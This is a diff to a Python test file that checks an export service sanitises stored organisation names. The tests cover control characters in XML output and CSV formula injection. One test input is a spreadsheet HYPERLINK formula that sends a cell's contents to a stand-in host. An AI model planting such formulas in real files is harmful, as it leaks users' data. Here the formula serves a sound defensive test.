@@ -10,7 +10,6 @@ import httpx
 import pytest
 
 from hub.db.database import Database
-from hub.db.repositories import organisations
 from hub.domain.enums import Role
 from hub.domain.principal import EVERYTHING
 from hub.security.api_keys import ApiKeys
@@ -129,7 +128,7 @@ async def test_exports_stay_well_formed_whatever_a_stored_name_holds(
 ) -> None:
     # Written straight to the graph, as text stored before inputs were checked would be.
     stored = 'Thamesgate\u0001 Bank\u202e\r\n"Quoted", <b>&amp;</b>\u000b\uffff'
-    await organisations.update_organisation(seeded, org_id="thamesgate-bank", changes={"name": stored})
+    await seeded.write("MATCH (n:Organisation {id: 'thamesgate-bank'}) SET n.name = $name", name=stored)
     # What XML 1.0 cannot hold becomes U+FFFD, in every export; everything else is kept.
     exported = 'Thamesgate\ufffd Bank\u202e\r\n"Quoted", <b>&amp;</b>\ufffd\ufffd'
 
@@ -149,8 +148,8 @@ async def test_a_stored_formula_is_exported_as_text_not_run_by_a_spreadsheet(
     seeded: Database, client: httpx.AsyncClient
 ) -> None:
     formula = '=HYPERLINK("https://example.invalid/?leak="&A1,"Open")'
-    await organisations.update_organisation(seeded, org_id="thamesgate-bank", changes={"name": formula})
-    await organisations.update_organisation(seeded, org_id="kestrel-bank", changes={"nameZh": "-1+2"})
+    await seeded.write("MATCH (n:Organisation {id: 'thamesgate-bank'}) SET n.name = $name", name=formula)
+    await seeded.write("MATCH (n:Organisation {id: 'kestrel-bank'}) SET n.nameZh = '-1+2'")
     rows = _rows(await client.get("/export/nodes.csv", params={"type": "Institution"}))
     by_id = {r["id"]: r for r in rows}
     assert by_id["thamesgate-bank"]["name"] == "'" + formula
